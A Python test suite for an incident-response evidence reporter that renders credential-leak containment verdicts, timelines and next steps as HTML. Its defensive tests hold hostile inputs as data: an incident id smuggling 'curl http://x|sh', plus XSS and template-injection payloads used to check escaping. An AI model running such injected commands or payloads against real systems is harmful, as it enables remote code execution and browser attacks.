"""The report never says more than the evidence proves, and prints hostile input as text."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from policies.errors import InputError
from rotation.commands.evidence import command
from rotation.evidence import chronicle
from rotation.evidence.folder import Evidence, verify
from rotation.evidence.report import render, view
from rotation.evidence.timeline import span
from rotation.evidence.verdict import Verdict

INCIDENT = {
    "id": "INC-1",
    "state": "open",
    "opened_at": 1795488701,
    "denied_at": 1795488702,
    "scope": {"leaked": ["secret:key"]},
}
EFFECT = {"what": "gate", "target": "pc-gate", "outcome": "done", "detail": "in force", "proof": "read back"}
TRIED = EFFECT | {"what": "probe", "target": "key", "outcome": "already", "detail": "probe: p 403, control 200"}
CONTAINED = {"contained": True, "effects": [EFFECT, TRIED], "not_contained": []}
PROBE = {"what": "read", "credential": "token of x", "expected": "refused", "observed": "refused"}
DRILL = {"seconds": {"to_deny": 3.1, "total": 26}, "probes": [PROBE], "verdict": "contained"}
ATTACKER = {"credential": "token of x", "last_success": 1795488701.5, "first_refused": 1795488702.5, "attempts": 40}


def _folder(tmp_path: Path, **files: Any) -> Path:
    folder = tmp_path / "INC-1"
    folder.mkdir()
    for name, data in ({"incident": INCIDENT} | files).items():
        (folder / f"{name}.json").write_text(json.dumps(data))
    return folder


def test_contained_when_everything_says_so(tmp_path: Path) -> None:
    shown = view(_folder(tmp_path, containment=CONTAINED, drill=DRILL, attackers=[ATTACKER]))
    assert (shown.verdict, shown.not_contained) == (Verdict.CONTAINED, ())


def test_no_command_has_an_id_that_somebody_put_into_a_file(tmp_path: Path) -> None:
    planted = INCIDENT | {"id": "INC-1; curl http://x|sh"}
    shown = view(_folder(tmp_path, incident=planted, containment=CONTAINED))
    assert shown.incident == "INC-1"
    assert "curl" not in str(shown.steps)


WORSE: dict[str, dict[str, Any]] = {
    "failed effect": {"containment": CONTAINED | {"effects": [EFFECT | {"outcome": "failed"}]}},
    "effect of no known outcome": {"containment": CONTAINED | {"effects": [EFFECT | {"outcome": "maybe"}]}},
    "named": {"containment": CONTAINED | {"not_contained": ["db"]}},
    "says no": {"containment": CONTAINED | {"contained": False}},
    "says a string": {"containment": CONTAINED | {"contained": "true"}},
    "probe": {"drill": DRILL | {"probes": [PROBE | {"observed": "succeeded"}]}},
    "verdict": {"drill": DRILL | {"verdict": "not contained: x"}},
    "attacker never refused": {"attackers": [ATTACKER | {"first_refused": None}]},
    "attacker back in": {"attackers": [ATTACKER | {"last_success": 1795488709}]},
}


@pytest.mark.parametrize("case", WORSE)
def test_one_bad_sign_is_enough(tmp_path: Path, case: str) -> None:
    files = {"containment": CONTAINED, "drill": DRILL, "attackers": [ATTACKER]} | WORSE[case]
    folder = _folder(tmp_path, **files)
    shown = view(folder)
    assert (shown.verdict, len(shown.not_contained)) == (Verdict.NOT_CONTAINED, 1)
    html = render(folder).read_text()
    assert html.index(">Not contained</p>") < html.index('class="alert"') < html.index('id="credentials"')


def test_without_a_drill_the_lock_downs_own_probes_speak(tmp_path: Path) -> None:
    probe = TRIED
    proofs = [{"item": "incident", "kind": "recovery", "at": 1, "ok": True, "detail": "8 reads answer 200"}]
    files: dict[str, Any] = {"containment": CONTAINED | {"effects": [EFFECT, probe]}}
    shown = view(_folder(tmp_path, incident=INCIDENT | {"proofs": proofs}, **files))
    assert [(c.name, c.contained) for c in shown.credentials] == [("secret:key", True)]
    assert ("Services back", "good", "8 reads answer 200") in [(s.name, s.tone, s.says) for s in shown.stages]
    (tmp_path / "mended").mkdir()
    mended = CONTAINED | {"effects": [probe | {"outcome": "failed"}, EFFECT, probe]}
    assert view(_folder(tmp_path / "mended", containment=mended)).not_contained == (), "the last word counts"
    (tmp_path / "worse").mkdir()
    files["containment"] = CONTAINED | {"effects": [EFFECT, probe | {"outcome": "failed"}]}
    assert view(_folder(tmp_path / "worse", **files)).verdict is Verdict.NOT_CONTAINED


def test_each_probe_is_in_its_own_incidents_report_and_stays_when_it_is_replaced(tmp_path: Path) -> None:
    """The last run was made while another incident was open, and no longer tried what is replaced by then."""
    told = [TRIED | {"at": 1795488703.0, "phase": "containment"}]
    last = CONTAINED | {"effects": [EFFECT, TRIED | {"target": "another"}]}
    shown = view(_folder(tmp_path, containment=last, timeline=told))
    assert [(c.name, c.contained) for c in shown.credentials] == [("secret:key", True)]
    (tmp_path / "all").mkdir()
    everything = INCIDENT | {"scope": {"everything": True, "leaked": []}}
    shown = view(_folder(tmp_path / "all", incident=everything, containment=last, timeline=told))
    (denied, *_) = shown.credentials
    assert denied.lines[0].seen == "probe: p 403, control 200, 2 times"


@pytest.mark.parametrize("files", [{}, {"drill": DRILL}, {"containment": {"contained": True, "effects": []}}])
def test_no_proof_is_not_contained(tmp_path: Path, files: dict[str, Any]) -> None:
    assert view(_folder(tmp_path, **files)).verdict is Verdict.UNPROVEN


def test_a_credential_that_nobody_probed_is_not_proven(tmp_path: Path) -> None:
    other = ATTACKER | {"credential": "CI token"}
    shown = view(_folder(tmp_path, containment=CONTAINED, drill=DRILL, attackers=[ATTACKER, other]))
    assert (shown.verdict, shown.not_contained) == (Verdict.UNPROVEN, ())


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name in ("href", "src", "xlink:href")]


HOSTILE = "\x1b[8m\u202e\"'><script>alert(1)</script><img src=x onerror=alert(1)>{{ 7*7 }}</style></svg>"


def test_hostile_input_is_text(tmp_path: Path) -> None:
    event = {"at": 1795488701, "phase": HOSTILE, "what": HOSTILE, "outcome": HOSTILE}
    effect = dict.fromkeys(EFFECT, HOSTILE)
    folder = _folder(
        tmp_path,
        incident=INCIDENT | {"id": HOSTILE, "state": HOSTILE, "scope": {"leaked": [HOSTILE]}},
        timeline=[event],
        containment={
            "contained": HOSTILE,
            "effects": [effect, effect | {"outcome": "done"}],
            "not_contained": [HOSTILE],
        },
        drill={"seconds": {HOSTILE: HOSTILE}, "probes": [dict.fromkeys(PROBE, HOSTILE)], "verdict": HOSTILE},
        attackers=[dict.fromkeys(ATTACKER, HOSTILE)],
        services=[{"workload": HOSTILE, "interrupted_seconds": HOSTILE, "last_ok": HOSTILE, "first_ok_after": HOSTILE}],
    )
    html = render(folder).read_text()
    parsed = _Tags()
    parsed.feed(html)
    assert not parsed.tags & {"script", "img", "iframe", "link", "object", "foreignobject"}
    assert not {a for a in parsed.attributes if a.startswith("on") or a == "style"}
    assert "{{ 7*7 }}" in html
    assert html.count("</style>") == 1
    assert not {"\x1b", "\u202e"} & set(html)
    assert "\\x1b[8m\\u202e" in html


TORN = "its fields are -----BEGIN PRIVATE KEY-----, -----BEGIN EC PRIVATE KEY-----"


def test_a_name_that_looks_like_a_key_hides_nothing_that_the_report_says(tmp_path: Path) -> None:
    leaked = INCIDENT | {
        "proofs": [{"item": "secret:key", "kind": "old-dead", "at": 1795488702, "ok": None, "detail": TORN}]
    }
    ends = "-----END PRIVATE KEY-----"
    points = [f"x ({TORN})", "db (its users are left)", f"y ({ends})", "z (refused)"]
    html = render(_folder(tmp_path, incident=leaked, containment=CONTAINED | {"not_contained": points})).read_text()
    assert html.rstrip().endswith("</html>")
    assert [words for words in (*points[1:], "What to do next", "Timeline") if words not in html] == []
    assert "BEGIN" not in html


def test_self_contained_and_its_policy_allows_its_own_style_only(tmp_path: Path) -> None:
    html = render(_folder(tmp_path, containment=CONTAINED, drill=DRILL)).read_text()
    parsed = _Tags()
    parsed.feed(html)
    assert parsed.links == ["#credentials"]
    style = re.search(r"<style>(.*?)</style>", html, re.DOTALL)
    assert style
    digest = base64.b64encode(hashlib.sha256(style[1].encode()).digest()).decode()
    assert f"default-src 'none'; style-src 'sha256-{digest}'" in html
    assert "url(" not in style[1]
    assert "@import" not in style[1]


def test_same_evidence_gives_the_same_bytes(tmp_path: Path) -> None:
    folder = _folder(tmp_path, containment=CONTAINED, drill=DRILL)
    assert render(folder).read_bytes() == render(folder).read_bytes()


def test_timeline_is_drawn_in_order_and_bounded(tmp_path: Path) -> None:
    events = [{"at": 1795488800 - i, "phase": "p", "what": f"step {i}", "outcome": "done"} for i in range(70)]
    shown = view(_folder(tmp_path, timeline=events)).picture
    assert shown
    places = [r.x for r in shown.rows]
    assert places == sorted(places)
    assert (places[0], round(places[-1] + shown.rows[-1].width, 2), shown.undrawn) == (0, 100, 10)


def test_timeline_goes_by_phase_and_joins_acts_of_a_kind(tmp_path: Path) -> None:
    rows = [("lift", "lifted", "done", 9), ("containment", "token revoked", "done", 2)]
    rows += [("detection", "opened", "done", 0), ("containment", "token revoked", "failed", 4)]
    rows += [("eradication", "confirmation", "waiting", 5)]
    events = [{"at": 1795488700 + at, "phase": p, "what": w, "outcome": o, "target": "t"} for p, w, o, at in rows]
    shown = view(_folder(tmp_path, timeline=events)).picture
    assert shown
    assert [(r.phase, r.label, r.bad) for r in shown.rows] == [
        ("detection", "opened · t", False),
        ("containment", "token revoked × 2 – 1 failed", True),
        ("eradication", "confirmation · t – waiting", False),
        ("lift", "lifted · t", False),
    ]
    assert shown.rows[1].offset == "+2.0 s, 2.0 s"
    assert (shown.ticks[0], shown.ticks[-1]) == ("0.0 s", "9.0 s")


def test_a_failure_is_always_among_the_drawn(tmp_path: Path) -> None:
    events = [{"at": 1795488700 + i, "phase": "containment", "what": f"{i}", "outcome": "done"} for i in range(70)]
    shown = view(_folder(tmp_path, timeline=[*events[:-1], events[-1] | {"outcome": "failed"}])).picture
    assert shown
    assert [r.label for r in shown.rows if r.bad] == ["69 – 1 failed"]


@pytest.mark.parametrize(
    ("seconds", "said"),
    [(0, "0.0 s"), (4.25, "4.2 s"), (60, "1 min"), (725, "12 min 5 s"), (3600, "1 h"), (187200, "2 d 4 h")],
)
def test_durations_as_a_person_says_them(seconds: float, said: str) -> None:
    assert span(seconds) == said


OLD = {"item": "secret:a", "kind": "old-dead", "at": 1795488710, "ok": True, "detail": "401"}
NEW = {"item": "secret:a", "kind": "new-alive", "at": 1795488711, "ok": True, "detail": "200"}
BACK = {"item": "incident", "kind": "recovery", "at": 1795488712, "ok": True, "detail": "all"}
QUIET = {"item": "incident", "kind": "audit-quiet", "at": 1795488712, "ok": True, "detail": "none"}
LEAKED = INCIDENT | {"scope": {"everything": False, "leaked": ["secret:a"]}, "proofs": [OLD, NEW, BACK, QUIET]}


def test_with_everything_proven_the_next_step_is_the_lift(tmp_path: Path) -> None:
    shown = view(_folder(tmp_path, incident=LEAKED, containment=CONTAINED, drill=DRILL))
    assert [r.holds for r in shown.replaced] == [True, True]
    assert "incident=false" in shown.steps[0].command


def test_what_rests_on_a_persons_word_is_not_called_proven(tmp_path: Path) -> None:
    word = {"detail": "2 versions destroyed; at the other side confirmed by A. Roth: ticket 4711: not proven"}
    said = {"item": "secret:a", "kind": "confirmed", "at": 1795488710, "ok": True, "detail": "confirmed by A. Roth"}
    proofs = [OLD | word, NEW, BACK, QUIET, said]
    folder = _folder(tmp_path, incident=LEAKED | {"proofs": proofs}, containment=CONTAINED, drill=DRILL)
    shown = view(folder)
    assert ("Replaced and proven", "warn", "0 of 1, 1 on a person's word") in [
        (s.name, s.tone, s.says) for s in shown.stages
    ]
    html = render(folder).read_text()
    assert "… on a person&#39;s word</span> · secret:a" in html
    assert "✓ replaced</span> · secret:a" not in html
    assert "incident=false" in shown.steps[0].command, "a word counts for the lift"
    assert shown.steps[0].why.startswith("Everything is proven but secret:a, a person's word. Lift")
    assert (shown.verdict, shown.says.rpartition(": ")[2]) == (Verdict.CONTAINED, "secret:a.")


def test_what_is_proven_of_the_incident_is_no_credential(tmp_path: Path) -> None:
    everything = INCIDENT | {"scope": {"everything": True, "leaked": []}}
    shown = view(_folder(tmp_path, incident=everything, containment=CONTAINED))
    assert [(s.tone, s.says) for s in shown.stages if s.name == "Replaced and proven"] == [
        ("warn", "nothing named as leaked")
    ]
    prove = shown.steps[-2]
    assert prove.why.startswith("Prove that the workloads are back and that nothing retired was used")
    assert prove.command == "portcullis rotate run INC-1"


def test_one_that_waits_for_a_word_did_not_fail(tmp_path: Path) -> None:
    waits = OLD | {"ok": False, "detail": "a person must confirm the other side: portcullis rotate confirm INC-1"}
    shown = view(_folder(tmp_path, incident=LEAKED | {"proofs": [waits, NEW, BACK, QUIET]}, containment=CONTAINED))
    assert [(r.holds, r.failed) for r in shown.replaced] == [(False, False), (True, False)]


def test_the_head_says_what_the_lines_below_say(tmp_path: Path) -> None:
    files: dict[str, Any] = {"containment": CONTAINED, "drill": DRILL}
    contained = view(_folder(tmp_path, incident=LEAKED, **files))
    assert contained.says == "Every step was seen to hold, and each leaked credential below was seen shut out."
    (tmp_path / "alive").mkdir()
    alive = view(_folder(tmp_path / "alive", incident=LEAKED | {"proofs": [OLD | {"ok": False}, NEW]}, **files))
    assert (alive.verdict, alive.says.rpartition(": ")[2]) == (Verdict.UNPROVEN, "secret:a.")
    (tmp_path / "unseen").mkdir()
    unseen = view(_folder(tmp_path / "unseen", incident=INCIDENT | {"scope": {"leaked": ["workload:w"]}}, **files))
    assert (unseen.verdict, unseen.credentials[-1].tone) == (Verdict.UNPROVEN, "warn"), "nothing was seen of it"


def test_what_a_leaked_repository_holds_is_to_be_replaced_too(tmp_path: Path) -> None:
    incident = INCIDENT | {"scope": {"leaked": ["repository:r"]}}
    report = CONTAINED | {"leaked": ["secret:held"]}
    shown = view(_folder(tmp_path, incident=incident, containment=report))
    assert shown.scope == "repository:r", "as it was asked for"
    assert [c.name for c in shown.credentials] == ["repository:r", "secret:held"]
    assert [r.item for r in shown.replaced] == ["secret:held", "incident"]


def test_one_reason_for_more_than_one_target_is_one_open_point(tmp_path: Path) -> None:
    failed = [EFFECT | {"what": "CI role off", "target": t, "outcome": "failed", "detail": "no answer"} for t in "ab"]
    report = {"contained": False, "not_contained": ["a, b (CI role off: no answer)"], "effects": failed}
    assert view(_folder(tmp_path, containment=report)).not_contained == ("a, b (CI role off: no answer)",)


def test_without_the_servers_record_what_the_folder_knows_is_drawn_and_never_called_contained(tmp_path: Path) -> None:
    folder = _folder(tmp_path, containment=CONTAINED)
    (folder / "incident.json").unlink()
    with pytest.raises(InputError, match="there is nothing to report on"):
        view(folder)
    noted = {"at": 1795488701.25, "phase": "detection", "what": "incident opened", "outcome": "failed", "detail": ""}
    lines = [json.dumps(noted | {"target": target}) for target in ("secret:key", "ci:c, secret:key")]
    (folder / "events.jsonl").write_text("\n".join(lines) + "\n")
    shown = view(folder)
    assert (shown.verdict, shown.scope, shown.state) == (Verdict.UNPROVEN, "ci:c, secret:key", "")
    assert shown.steps[0].command == "portcullis contain --incident-id INC-1 --scope ci:c,secret:key"
    assert "<h2>The server's record is missing</h2>" in render(folder).read_text()


OPEN: dict[str, tuple[dict[str, Any], str]] = {
    "no new one": ({"incident": LEAKED | {"proofs": [OLD, BACK, QUIET]}}, "portcullis rotate run"),
    "old one alive": (
        {"incident": LEAKED | {"proofs": [OLD | {"ok": False}, NEW, BACK, QUIET]}},
        "portcullis rotate run",
    ),
    "ok is a word": (
        {"incident": LEAKED | {"proofs": [OLD | {"ok": "yes"}, NEW, BACK, QUIET]}},
        "portcullis rotate run",
    ),
    "workloads not back": ({"incident": LEAKED | {"proofs": [OLD, NEW, QUIET]}}, "portcullis rotate run"),
    "nobody looked at the log": ({"incident": LEAKED | {"proofs": [OLD, NEW, BACK]}}, "portcullis rotate run"),
    "not contained": ({"containment": CONTAINED | {"not_contained": ["db"]}}, "pulumi up --yes"),
    "not proven": ({"containment": {"contained": True, "effects": []}, "drill": {}}, "pulumi up --yes"),
    "a service out": ({"services": [{"workload": "w", "interrupted_seconds": None}]}, "portcullis rotate status"),
}


@pytest.mark.parametrize("case", OPEN)
def test_what_is_open_comes_before_the_lift(tmp_path: Path, case: str) -> None:
    files, first = OPEN[case]
    steps = view(_folder(tmp_path, **{"incident": LEAKED, "containment": CONTAINED, "drill": DRILL} | files)).steps
    assert steps[0].command.startswith(first)
    assert not [s for s in steps if "incident=false" in s.command], "a lift was offered"


@pytest.mark.parametrize(
    ("scope", "state", "said"),
    [
        ({"everything": True, "leaked": []}, "open", True),
        ({"everything": True, "leaked": []}, "lifted", False),
        ({"everything": False, "leaked": ["secret:a"]}, "open", False),
    ],
)
def test_an_incident_that_names_nothing_says_that_nothing_will_be_rotated(
    tmp_path: Path, scope: dict[str, Any], state: str, said: bool
) -> None:
    folder = _folder(tmp_path, incident=LEAKED | {"scope": scope, "state": state}, containment=CONTAINED)
    html = render(folder).read_text()
    assert ("Nothing is named as leaked: nothing will be rotated." in html) is said


def test_after_the_lift_comes_the_postmortem(tmp_path: Path) -> None:
    done = LEAKED | {"state": "lifted", "lifted_at": 1795488900}
    shown = view(_folder(tmp_path, incident=done, containment=CONTAINED, drill=DRILL))
    assert "postmortem within 48 hours" in shown.steps[0].why
    assert [s.tone for s in shown.stages] == ["good"] * 4


def test_without_a_timeline_the_incident_speaks(tmp_path: Path) -> None:
    shown = view(_folder(tmp_path)).events
    assert [(e.phase, e.what) for e in shown] == [
        ("detection", "incident opened"),
        ("containment", "leaked paths denied"),
    ]


def test_without_a_timeline_what_was_noted_is_drawn_to_its_hundredths(tmp_path: Path) -> None:
    folder = _folder(tmp_path, containment=CONTAINED | {"effects": [EFFECT | {"at": 1795488702.75}]})
    noted = {"at": 1795488701.25, "phase": "detection", "what": "incident opened", "target": "secret:key"}
    (folder / "events.jsonl").write_text(json.dumps(noted | {"outcome": "done", "detail": ""}) + '\n{"torn')
    shown = view(folder)
    assert shown.picture
    assert [(r.phase, r.label, r.offset) for r in shown.picture.rows] == [
        ("detection", "incident opened · secret:key", "+0.0 s"),
        ("detection", "evidence torn – 1 failed", "+0.0 s"),
        ("containment", "leaked paths denied", "+0.8 s"),
        ("containment", "gate · pc-gate", "+1.5 s"),
    ]


@pytest.mark.parametrize(
    ("noted", "open_point"),
    [
        ({"phase": "lift", "what": "lift begun", "outcome": "done", "target": "", "detail": ""}, "lift begun"),
        (
            {"phase": "containment", "what": "probe", "outcome": "failed", "target": "key", "detail": "200"},
            "key (probe: 200)",
        ),
    ],
)
def test_what_was_noted_after_somebody_collected_is_reported(
    tmp_path: Path, noted: dict[str, Any], open_point: str
) -> None:
    folder = _folder(tmp_path, containment=CONTAINED)
    before = {"at": 1795488702.5, "phase": "containment", "what": "contained", "target": "", "outcome": "done"}
    (folder / "events.jsonl").write_text(json.dumps(before) + "\n")
    (folder / "timeline.json").write_text(json.dumps(chronicle.noted(folder, INCIDENT, [])[0]))
    assert view(folder).verdict is Verdict.CONTAINED
    with (folder / "events.jsonl").open("a") as events:
        events.write(json.dumps(noted | {"at": 1795488800}) + "\n")
    shown = view(folder)
    assert shown.verdict is Verdict.NOT_CONTAINED
    assert open_point in "; ".join(shown.not_contained)


@pytest.mark.parametrize(
    ("name", "content"),
    [("incident", "{"), ("incident", "[]"), ("timeline", "{}"), ("timeline", "[1]"), ("timeline", '[{"at": "x"}]'),
     ("timeline", '[{"at": 1e308}]'), ("timeline", '[{"at": NaN}]'), ("drill", '{"probes": 1}'),
     ("drill", '{"seconds": 1}'),
     ("containment", '{"not_contained": "x"}'), ("services", '{"a": 1}'), ("attackers", "\x00")],
)  # fmt: skip
def test_evidence_of_another_shape_is_named(tmp_path: Path, name: str, content: str) -> None:
    folder = _folder(tmp_path)
    (folder / f"{name}.json").write_text(content)
    with pytest.raises(InputError, match=name):
        render(folder)


def test_no_evidence_is_said(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="INC-9"):
        render(tmp_path / "INC-9")


def test_command_seals_and_a_changed_file_is_shown_and_not_sealed_again(tmp_path: Path) -> None:
    folder = _folder(tmp_path, containment=CONTAINED, drill=DRILL)
    Evidence(folder).seal()
    argv = ["report", "INC-1", "--folder", str(tmp_path), "--json"]
    first = CliRunner().invoke(command, argv)
    assert (first.exit_code, verify(folder)) == (0, [])
    assert json.loads(first.stdout)["head"] == Evidence(folder).seal()
    (folder / "drill.json").write_text(json.dumps(DRILL | {"seconds": {}}))
    second = CliRunner().invoke(command, argv)
    assert second.exit_code == 1
    assert "drill.json: edited" in (folder / "report.html").read_text()
    assert "drill.json" in {p.path for p in verify(folder)}


def test_command_names_what_was_put_there_and_does_not_seal_it(tmp_path: Path) -> None:
    folder = _folder(tmp_path, containment=CONTAINED, drill=DRILL)
    Evidence(folder).seal()
    (folder / "services.json").write_text(json.dumps([{"workload": "w", "interrupted_seconds": 0}]))
    done = CliRunner().invoke(command, ["report", "INC-1", "--folder", str(tmp_path), "--json"])
    assert (done.exit_code, [p.path for p in verify(folder)]) == (0, ["services.json"])
    html = (folder / "report.html").read_text()
    assert "services.json: added, sealed by nobody" in html
    assert "<title>Not proven" in html


def test_a_pipe_is_not_waited_for(tmp_path: Path) -> None:
    folder = _folder(tmp_path, containment=CONTAINED)
    os.mkfifo(folder / "timeline.json")
    with pytest.raises(InputError, match=r"timeline\.json is no regular file"):
        render(folder)
